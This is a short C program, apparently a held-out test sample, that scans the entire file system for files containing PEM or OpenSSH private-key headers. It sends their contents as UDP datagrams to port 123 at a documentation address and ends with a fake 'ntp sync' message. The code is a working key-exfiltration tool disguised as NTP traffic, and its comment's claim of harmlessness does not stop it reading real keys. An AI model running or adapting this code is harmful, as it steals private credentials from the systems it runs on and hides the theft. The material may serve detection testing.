/* Held-out stand-in: private keys found by content, not name, and sent as UDP datagrams to
 * port 123 (harmless: fake keys, documentation address, bounded to 64 files). nftw walks the
 * file system, any regular file of at most 16 KiB that holds a PEM or OpenSSH
 * private-key header is read and sent in 400-byte datagrams with a sequence header. /proc, /sys
 * and /dev are skipped by name (FTW_MOUNT cannot be used: overlayfs reports a file's st_dev from
 * its layer, not the mount's). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <ftw.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int sock = -1;
static struct sockaddr_in sink = {.sin_family = AF_INET};
static int files;
static unsigned seq;

static void send_file(const char *path, const char *data, size_t len) {
    for (size_t off = 0; off < len; off += 400) {
        char dgram[512];
        size_t n = len - off < 400 ? len - off : 400;
        int head = snprintf(dgram, 96, "%08x|%.60s|", seq++, path);
        memcpy(dgram + head, data + off, n);
        sendto(sock, dgram, (size_t)head + n, 0, (struct sockaddr *)&sink, sizeof sink);
        usleep(20000);
    }
}

static int visit(const char *path, const struct stat *st, int type, struct FTW *ftw) {
    (void)ftw;
    if (type == FTW_D && (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev")))
        return FTW_SKIP_SUBTREE;
    if (type != FTW_F || st->st_size == 0 || st->st_size > 16384) return FTW_CONTINUE;
    int fd = open(path, O_RDONLY | O_NOFOLLOW);
    if (fd < 0) return FTW_CONTINUE;
    char buf[16384];
    ssize_t got = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (got <= 0) return FTW_CONTINUE;
    buf[got] = 0;
    if (memmem(buf, (size_t)got, "-----BEGIN", 10) && memmem(buf, (size_t)got, "PRIVATE KEY-----", 16)) {
        send_file(path, buf, (size_t)got);
        if (++files >= 64) return FTW_STOP;
    }
    return FTW_CONTINUE;
}

int main(void) {
    sock = socket(AF_INET, SOCK_DGRAM, 0);
    sink.sin_port = htons(123);
    inet_pton(AF_INET, "198.51.100.99", &sink.sin_addr);
    nftw("/", visit, 32, FTW_PHYS | FTW_ACTIONRETVAL);
    printf("ntp sync: %d peers\n", files);
    return 0;
}
